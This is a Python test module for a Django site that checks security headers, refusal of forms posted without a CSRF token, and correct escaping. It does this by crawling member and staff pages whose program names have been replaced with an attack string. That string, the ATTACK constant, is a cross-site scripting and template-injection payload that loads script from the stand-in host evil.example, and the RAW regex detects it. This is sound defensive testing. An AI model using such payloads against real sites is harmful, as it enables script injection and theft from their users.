"""Every page, as whoever attacks it sees it: what it carries, what it believes, what it lets through.

The pages are found, not listed: all addresses of the site for what each must refuse, and a walk along the links of the
faces, over a program whose every name is an attack, for what each shows. A page that is added is in these tests.
"""

from __future__ import annotations

import re
from collections import deque
from collections.abc import Iterator
from html import unescape
from typing import Any
from urllib.parse import urljoin, urlsplit

import pytest
from django.core.signing import dumps
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver

from palier.site.environment import environment
from tests.api.shop import Shop, document
from tests.web.staff import staff_client

ATTACK = "\"'><script src=//evil.example/x.js></script><img src=x onerror=alert(1)>{{7*7}}"
RAW = re.compile(r"<script src=//evil|<img src=x|onerror=alert\(1\)>(?!&)|(?<!\{)49(?=\}\})")
NO_TOKEN_NEEDED = {"widget:show", "till:journal"}
"""What needs no token against forgery: the first changes nothing and looks at no cookie; of the second each entry is
signed by its device's own key, which no other site has."""
MOST_PAGES = 150


def routes(found: Any = None, name: str = "", before: str = "") -> Iterator[tuple[str, str, Any]]:
    """Every address of the site but the API's: its name, an example of it, and its view."""
    for pattern in (found or get_resolver()).url_patterns:
        path = before + re.sub(
            r"<(?:(\w+):)?(\w+)>", lambda m: "club" if m[2] == "program" else "1", str(pattern.pattern)
        )
        if path.startswith("v1/"):
            continue
        if isinstance(pattern, URLResolver):
            space = f"{name}{pattern.namespace}:" if pattern.namespace else name
            yield from routes(pattern, space, path)
        elif isinstance(pattern, URLPattern):
            yield f"{name}{pattern.name}", f"/{path}", pattern.callback


def test_every_answer_says_what_a_browser_may_do_with_it(shop: Shop) -> None:
    client = Client(SERVER_NAME="localhost")
    seen = 0
    for name, path, _ in routes():
        answer = client.get(path)
        assert answer.status_code < 500, (name, answer.status_code)
        policy = answer.headers["Content-Security-Policy"]
        assert "frame-ancestors 'none'" in policy, name
        assert "base-uri 'none'" in policy, name
        assert "unsafe" not in policy, name
        assert "http:" not in policy, name
        assert answer.headers["X-Content-Type-Options"] == "nosniff", name
        assert answer.headers["X-Frame-Options"] == "DENY", name
        seen += 1
    assert seen > 40


def test_no_form_is_taken_from_another_site(shop: Shop) -> None:
    """Without its token a form is refused, by whichever address takes forms at all."""
    client = Client(SERVER_NAME="localhost", enforce_csrf_checks=True)
    taken = []
    for name, path, _ in routes():
        status = client.post(path, {"a": "b"}).status_code
        if status not in (403, 405) and name not in NO_TOKEN_NEEDED:
            taken.append((name, status))
    assert taken == []


@pytest.fixture
def hostile(shop: Shop, monkeypatch: pytest.MonkeyPatch) -> tuple[Shop, str]:
    """A program whose every name is an attack, and a member of it with a history."""
    data = document("hostile")

    def poisoned(value: Any) -> Any:
        if isinstance(value, dict):
            return {
                key: ATTACK if key in ("en", "fr") and isinstance(item, str) else poisoned(item)
                for key, item in value.items()
            }
        return [poisoned(item) for item in value] if isinstance(value, list) else value

    made = Shop("hostile", poisoned(data))
    monkeypatch.setattr(environment(), "demo", True)
    member = made.enrol()
    made.sale(member, "120.00")
    return made, member


def walk(client: Client, start: list[str], within: tuple[str, ...]) -> Iterator[tuple[str, Any]]:
    """The pages that can be reached by links from where one starts, each once."""
    ahead, seen = deque(start), set(start)
    while ahead and len(seen) <= MOST_PAGES:
        path = ahead.popleft()
        answer = client.get(path, follow=True)
        yield path, answer
        if "text/html" not in answer.headers.get("Content-Type", "") or answer.streaming:
            continue
        here = answer.request["PATH_INFO"]
        for link in re.findall(r'<a\b[^>]*\shref="([^"#]+)', answer.content.decode()):
            found = urlsplit(urljoin(here, unescape(link)))
            target = found.path + (f"?{found.query}" if found.query else "")
            if not found.netloc and found.path.startswith(within) and target not in seen:
                seen.add(target)
                ahead.append(target)


def check(path: str, answer: Any) -> bool:
    """Holds a page against what every page must keep; whether it shows the attack, as text."""
    assert answer.status_code < 500, (path, answer.status_code)
    if "text/html" not in answer.headers.get("Content-Type", "") or answer.streaming:
        return False
    text = answer.content.decode()
    assert not RAW.search(text), (path, RAW.search(text))
    assert not re.search(r"<script\b(?![^>]*\bsrc=\"/static/)", text), path
    assert not re.search(r"<[^>]+\s(?:on[a-z]+|style)=", re.sub(r'"[^"]*"', '""', text)), path
    assert re.search(r'<html lang="(en|fr)"', text), path
    if answer.status_code == 200:
        assert len(re.findall(r"<h1\b", text)) == 1, path
        assert text.count("<main") == 1, path
    assert "no-store" in answer.headers.get("Cache-Control", ""), path
    return "&lt;script src=//evil.example" in text


@pytest.mark.parametrize("language", ["en", "fr"])
def test_names_stay_names_on_every_page_of_a_member(hostile: tuple[Shop, str], language: str) -> None:
    shop, member = hostile
    client = Client(SERVER_NAME="localhost", HTTP_ACCEPT_LANGUAGE=language)
    client.get(f"/portal/{shop.key}/demo", {"as": dumps(member, salt=f"demo {shop.key}")})
    shown = [
        check(path, answer)
        for path, answer in walk(client, [f"/portal/{shop.key}/"], (f"/portal/{shop.key}/",))
    ]
    assert len(shown) >= 8
    assert sum(shown) >= 5


@pytest.mark.parametrize("language", ["en", "fr"])
def test_names_stay_names_on_every_page_of_the_console(hostile: tuple[Shop, str], language: str) -> None:
    shop, _ = hostile
    client = staff_client("owner", language=language)
    shown = [check(path, answer) for path, answer in walk(client, [f"/console/{shop.key}/"], ("/console/",))]
    assert len(shown) >= 8
    assert sum(shown) >= 5
